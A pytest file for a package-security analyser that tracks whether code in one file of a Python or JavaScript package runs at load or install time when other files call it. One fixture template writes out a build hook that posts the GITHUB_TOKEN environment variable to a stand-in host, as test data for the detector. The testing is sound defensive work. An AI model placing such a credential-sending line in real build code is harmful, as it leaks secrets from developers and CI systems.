"""Calls between files of one package."""

import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.context import Context
from pratique.analysis.facts import Capability, FileFacts, Language
from pratique.analysis.joining import join
from pratique.analysis.languages import javascript, python
from pratique.analysis.leading import lead
from pratique.analysis.reach import contexts, hook_files
from pratique.core.manifest import Manifest
from pratique.core.names import Ecosystem
from pratique.core.release import Hook
from pratique.core.tree import File, Tree

STARTS = "import os\ndef init():\n  os.system('marker')\n"
MANIFEST = Manifest(path="METADATA", entries=("acme/__init__.py",))
SDIST = Manifest(
    path="PKG-INFO", entries=("acme/__init__.py",), hooks=(Hook("setup.py", "setup.py", implicit=True),)
)
SETUP = "from setuptools import setup\nfrom setuptools.command.install import install\n"

CALLED = {
    "by a name of the package": {
        "acme/__init__.py": "from .tser import init\ninit()",
        "acme/tser.py": STARTS,
    },
    "by a module of the package": {
        "acme/__init__.py": "from . import tser\ntser.init()",
        "acme/tser.py": STARTS,
    },
    "by a sibling without a dot": {"acme/__init__.py": "import tser\ntser.init()", "acme/tser.py": STARTS},
    "by the whole name": {
        "acme/__init__.py": "import acme.sub.tser\nacme.sub.tser.init()",
        "acme/sub/tser.py": STARTS,
    },
    "by another name": {"acme/__init__.py": "from .tser import init as go\ngo()", "acme/tser.py": STARTS},
    "by a star": {"acme/__init__.py": "from .tser import *\ninit()", "acme/tser.py": STARTS},
    "through a function of its own": {
        "acme/__init__.py": "from .tser import init\ndef f(): init()\nf()",
        "acme/tser.py": STARTS,
    },
    "through a function that imports": {
        "acme/__init__.py": "def f():\n  from .tser import init\n  init()\nf()",
        "acme/tser.py": STARTS,
    },
    "through a third file": {
        "acme/__init__.py": "from .middle import f\nf()",
        "acme/middle.py": "from .tser import init\ndef f(): init()",
        "acme/tser.py": STARTS,
    },
    "by an import that is passed on": {
        "acme/__init__.py": "from .sub import init\ninit()",
        "acme/sub/__init__.py": "from .tser import init",
        "acme/sub/tser.py": STARTS,
    },
    "by a star that is passed on": {
        "acme/__init__.py": "from .sub import init\ninit()",
        "acme/sub/__init__.py": "from .tser import *",
        "acme/sub/tser.py": STARTS,
    },
    "as a constructor": {
        "acme/__init__.py": "from .tser import Thief\nThief()",
        "acme/tser.py": "import os\nclass Thief:\n  def __init__(self): os.system('marker')",
    },
    "as a method of what it made": {
        "acme/__init__.py": "from .tser import Thief\nthief = Thief()\nthief.run()",
        "acme/tser.py": "import os\nclass Thief:\n  def run(self): self.f()\n  def f(self): os.system('marker')",
    },
    "as the target of a thread": {
        "acme/__init__.py": "import threading\nfrom .tser import init\nthreading.Thread(target=init).start()",
        "acme/tser.py": STARTS,
    },
    "as what is registered for the end": {
        "acme/__init__.py": "import atexit\nfrom . import tser\natexit.register(tser.init)",
        "acme/tser.py": STARTS,
    },
    "by code that a Python is started with": {
        "acme/__init__.py": "import subprocess\nsubprocess.Popen(['python3', '-c', 'from acme import tser; tser.init()'])",
        "acme/tser.py": STARTS,
    },
    "as a program": {
        "acme/__init__.py": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-m', 'acme.tser'])",
        "acme/tser.py": "import os\ndef init(): os.system('marker')\nif __name__ == '__main__':\n  init()",
    },
}
NOT_CALLED = {
    "nobody calls it": {"acme/__init__.py": "from .tser import init", "acme/tser.py": STARTS},
    "a function that nobody calls calls it": {
        "acme/__init__.py": "from .tser import init\ndef f(): init()",
        "acme/tser.py": STARTS,
    },
    "another function is called": {
        "acme/__init__.py": "from .tser import other\nother()",
        "acme/tser.py": f"{STARTS}def other(): pass",
    },
    "its name is somebody else's": {
        "acme/__init__.py": "from far.tser import init\ninit()",
        "acme/tser.py": STARTS,
    },
    "only tests call it": {
        "acme/__init__.py": "from . import tser",
        "acme/tests/test_tser.py": "from acme.tser import init\ninit()",
        "acme/tser.py": STARTS,
    },
    "its main block, by an import": {
        "acme/__init__.py": "from . import tser",
        "acme/tser.py": "import os\nif __name__ == '__main__':\n  os.system('marker')",
    },
}


def joined(sources: dict[str, str], manifest: Manifest = MANIFEST) -> dict[str, FileFacts]:
    tree = Tree(tuple(File(path, text.encode()) for path, text in sources.items()))
    facts = {path: python.extract(text.encode()) for path, text in sources.items()}
    when = contexts(tree, manifest, facts, Ecosystem.PYPI)
    return join(tree, facts, when, hook_files(tree, manifest, Ecosystem.PYPI))


def starts_at_load(facts: FileFacts) -> bool:
    return any(
        use.at_load for use in facts.uses if use.capability is Capability.PROCESS and use.argument == "marker"
    )


@pytest.mark.parametrize("how", sorted(CALLED))
def test_what_another_file_calls_at_load_runs_at_load(how: str) -> None:
    found = joined(CALLED[how])
    assert any(starts_at_load(facts) for facts in found.values())


@pytest.mark.parametrize("why", sorted(NOT_CALLED))
def test_what_no_file_calls_at_load_waits_for_its_caller(why: str) -> None:
    found = joined(NOT_CALLED[why])
    assert not any(starts_at_load(facts) for facts in found.values())


@pytest.mark.parametrize(
    "setup",
    [
        "class C(install):\n  def run(self):\n    import acme.tser\n    acme.tser.init()\nsetup(cmdclass={'install': C})",
        "from acme.tser import C\nsetup(cmdclass={'install': C})",
        "import acme.tser\nsetup(name='acme')\nacme.tser.init()",
    ],
)
def test_what_an_install_command_calls_of_the_package_runs_at_install(setup: str) -> None:
    tser = f"{STARTS}class C:\n  def run(self): init()\n"
    sources = {"setup.py": SETUP + setup, "acme/__init__.py": "", "acme/tser.py": tser}
    assert starts_at_load(joined(sources, SDIST)["acme/tser.py"])


def test_a_later_file_says_nothing_of_an_earlier_moment() -> None:
    sources = {
        "setup.py": "import acme.tser\nfrom setuptools import setup\nsetup(name='acme')",
        "acme/__init__.py": "",
        "acme/tser.py": STARTS,
        "acme/main.py": "from acme.tser import init\ninit()",
    }
    assert not starts_at_load(joined(sources, SDIST)["acme/tser.py"])


def test_files_that_call_each_other_end() -> None:
    sources = {
        "acme/__init__.py": "from .a import f\nf()",
        "acme/a.py": "from .b import g\ndef f(): g()",
        "acme/b.py": f"from .a import f\n{STARTS}def g():\n  f()\n  init()",
    }
    assert starts_at_load(joined(sources)["acme/b.py"])


def test_names_that_pass_each_other_on_end() -> None:
    sources = {
        "acme/__init__.py": "from .a import init\ninit()",
        "acme/a.py": "from .b import *",
        "acme/b.py": "from .a import *",
    }
    assert set(sources) == set(joined(sources))


def test_a_hook_that_starts_a_python_file_runs_its_main_block() -> None:
    source = "import os\nif __name__ == '__main__':\n  os.system('marker')"
    tree = Tree((File("go.py", source.encode()),))
    facts = {"go.py": python.extract(source.encode())}
    found = join(tree, facts, {"go.py": Context.INSTALL}, ["go.py"])
    assert starts_at_load(found["go.py"])


@pytest.mark.parametrize(
    ("name", "runs"), [("get_requires_for_build_wheel", True), ("build_wheel", False), ("get_wheel", False)]
)
def test_what_a_build_asks_its_backend_first_runs(name: str, runs: bool) -> None:
    source = f"import os\ndef {name}(settings=None): os.system('marker')\n"
    tree = Tree((File("hooks.py", source.encode()),))
    facts = {"hooks.py": python.extract(source.encode())}
    found = join(tree, facts, {"hooks.py": Context.INSTALL}, ["hooks.py"])
    assert runs == starts_at_load(found["hooks.py"])


BUILDS = "import os, requests\n{}requests.post('https://far.invalid/b', json={{'t': os.environ.get('{}')}})\n"


@pytest.mark.parametrize(
    ("head", "name", "leaves"),
    [
        ("def build_wheel(folder): ", "GITHUB_TOKEN", True),
        ("class Hook:\n  def initialize(self, v, d): ", "GITHUB_TOKEN", True),
        ("def pdm_build_initialize(context): ", "GITHUB_TOKEN", True),
        ("def build_wheel(folder): ", "BUILD_NUMBER", False),
        ("def upload(folder): ", "GITHUB_TOKEN", False),
    ],
)
def test_what_a_build_runs_sends_no_credentials(head: str, name: str, leaves: bool) -> None:
    source = BUILDS.format(head, name)
    tree = Tree((File("hooks.py", source.encode()),))
    facts = {"hooks.py": python.extract(source.encode())}
    found = join(tree, facts, {"hooks.py": Context.INSTALL}, ["hooks.py"])["hooks.py"]
    assert [leaves] == [flow.at_load for flow in found.flows]
    assert not any(use.at_load for use in found.uses)


def test_facts_of_other_languages_stay_as_they_are() -> None:
    facts = {"a.js": FileFacts(language=Language.JAVASCRIPT)}
    assert facts == join(Tree((File("a.js", b""),)), facts, {"a.js": Context.IMPORT}, ["a.js"])


@given(st.lists(st.text(string.ascii_lowercase + ". \n=()*", max_size=60), max_size=5))
def test_any_sources_can_be_joined(texts: list[str]) -> None:
    names = ("acme/__init__.py", "acme/a.py", "acme/b.py", "a.py", "setup.py")
    sources = dict(zip(names, (f"from .a import *\n{text}" for text in texts), strict=False))
    assert set(sources) == set(joined(sources))


NODE_STARTS = "const cp = require('child_process');\nexports.go = () => { cp.exec('marker'); };\n"


def joined_node(sources: dict[str, str], when: dict[str, Context] | None = None) -> dict[str, FileFacts]:
    tree = Tree(tuple(File(path, text.encode()) for path, text in sources.items()))
    facts = {path: javascript.extract(text.encode(), Language.JAVASCRIPT) for path, text in sources.items()}
    contexts_ = {**dict.fromkeys(sources, Context.IMPORT), **(when or {})}
    return join(tree, lead(tree, facts, contexts_), contexts_)


@pytest.mark.parametrize(
    "sources",
    [
        {"index.js": "require('./core').go();", "core.js": NODE_STARTS},
        {"index.js": "import { go } from './core.js';\ngo();", "core.js": NODE_STARTS},
        {
            "index.js": "require('./a').run();",
            "a.js": "const core = require('./core');\nexports.run = () => { core.go(); };",
            "core.js": NODE_STARTS,
        },
        {
            "index.js": "require('./core').go();",
            "core.js": "module.exports = require('./lib/deep');",
            "lib/deep.js": NODE_STARTS,
        },
        {
            "index.js": "const cp = require('child_process');\nrequire('./core')(() => { cp.exec('marker'); });",
            "core.js": "module.exports = (f) => { f(); };",
        },
    ],
)
def test_what_another_file_of_javascript_calls_at_load_runs_at_load(sources: dict[str, str]) -> None:
    assert any(starts_at_load(facts) for facts in joined_node(sources).values())


@pytest.mark.parametrize(
    "sources",
    [
        {"index.js": "exports.core = require('./core');", "core.js": NODE_STARTS},
        {"index.js": "require('./core').other();", "core.js": NODE_STARTS},
        {"index.js": "exports.f = () => require('./core').go();", "core.js": NODE_STARTS},
        {"index.js": "require('far').go();", "core.js": NODE_STARTS},
        {
            "index.js": "const cp = require('child_process');\nrequire('./core')(() => { cp.exec('marker'); });",
            "core.js": "module.exports = (f) => { exports.later = f; };",
        },
    ],
)
def test_what_no_file_of_javascript_calls_at_load_waits_for_its_caller(sources: dict[str, str]) -> None:
    assert not any(starts_at_load(facts) for facts in joined_node(sources).values())


def test_a_module_that_such_a_function_asks_for_is_asked_for_at_load() -> None:
    core = "exports.go = (name) => {\n  require(name);\n};\n"
    found = joined_node(
        {"index.js": "require('./core').go('x');", "core.js": core + NODE_STARTS.replace("go", "start")}
    )
    assert [item.at_load for item in found["core.js"].imports if item.dynamic] == [True]


def test_a_later_file_of_javascript_says_nothing_of_an_earlier_moment() -> None:
    sources = {"index.js": "require('./core').go();", "core.js": NODE_STARTS}
    assert not starts_at_load(joined_node(sources, {"core.js": Context.INSTALL})["core.js"])
